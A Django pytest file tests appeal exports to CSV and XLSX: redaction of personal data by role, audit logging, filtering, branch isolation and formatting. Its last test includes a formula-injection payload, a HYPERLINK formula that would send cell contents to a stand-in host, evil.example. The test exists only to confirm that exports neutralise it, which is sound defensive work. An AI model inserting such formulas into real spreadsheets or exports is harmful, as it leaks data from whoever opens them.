import csv
import datetime as dt
import io
from datetime import UTC

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from esep.appeals.tests.factories import register
from esep.audit.models import PersonalDataAccess
from esep.org.tests.factories import user_with_role

pytestmark = pytest.mark.django_db


@pytest.fixture
def appeal(place, tree):
    return register(place, dt.datetime(2021, 3, 19, 5, 0, tzinfo=UTC), tree.members["atyrau-city"])


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_officer_exports_csv_with_personal_data_and_it_is_logged(client, appeal, tree):
    client.force_login(user_with_role("reception_officer", tree.atyrau))
    rows = read_csv(client.get("/ru/appeals/export.csv"))
    assert rows[0][0] == "Номер"
    assert rows[1][0] == appeal.number and rows[1][13] == appeal.submitter.iin
    assert PersonalDataAccess.objects.filter(person=appeal.submitter).count() == 1


def test_analyst_export_has_no_personal_data(client, appeal, tree):
    client.force_login(user_with_role("analyst", tree.atyrau))
    rows = read_csv(client.get(reverse("appeals:export", args=["csv"])))
    assert rows[1][0] == appeal.number
    assert rows[1][12:15] == ["", "", ""]
    assert appeal.submitter.iin not in str(rows)


def test_xlsx_export_follows_the_filters(client, appeal, place, tree):
    client.force_login(user_with_role("branch_head", tree.atyrau))
    response = client.get(reverse("appeals:export", args=["xlsx"]), {"status": "closed"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.max_row == 1  # the header only: nothing is closed
    response = client.get(reverse("appeals:export", args=["xlsx"]), {"status": "registered"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(row=2, column=1).value == appeal.number


def test_export_of_another_branch_contains_nothing_of_ours(client, appeal, tree):
    client.force_login(user_with_role("reception_officer", tree.kostanay))
    assert len(read_csv(client.get(reverse("appeals:export", args=["csv"])))) == 1


def test_the_inbox_export_writes_dates_and_labels_as_every_list_does(client, appeal, tree):
    # The shared list format: local dates as the pages write them, labels in the user's
    # language, names rather than codes.
    client.force_login(user_with_role("reception_officer", tree.atyrau))
    header, row = read_csv(client.get("/ru/appeals/export.csv"))[:2]
    registered = row[header.index("Дата регистрации")]
    assert registered == appeal.registered_on.strftime("%d.%m.%Y")
    assert row[header.index("Статус")] == "зарегистрировано"
    assert row[header.index("Филиал")] == appeal.branch.name_ru


def test_text_typed_into_an_appeal_reaches_the_export_as_text_not_a_formula(client, place, tree):
    # What a citizen or an officer types is shown as typed, but never runs in the
    # officer's spreadsheet: in CSV with a leading apostrophe, in XLSX as a string cell.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    register(place, dt.datetime(2021, 3, 19, 5, 0, tzinfo=UTC), text=formula)
    client.force_login(user_with_role("reception_officer", tree.atyrau))
    header, row = read_csv(client.get("/ru/appeals/export.csv"))[:2]
    assert row[header.index("Текст")] == "'" + formula
    book = load_workbook(io.BytesIO(client.get("/ru/appeals/export.xlsx").content))
    sheet = book.active
    assert sheet is not None
    cell = sheet.cell(row=2, column=header.index("Текст") + 1)
    assert (cell.value, cell.data_type) == (formula, "s")
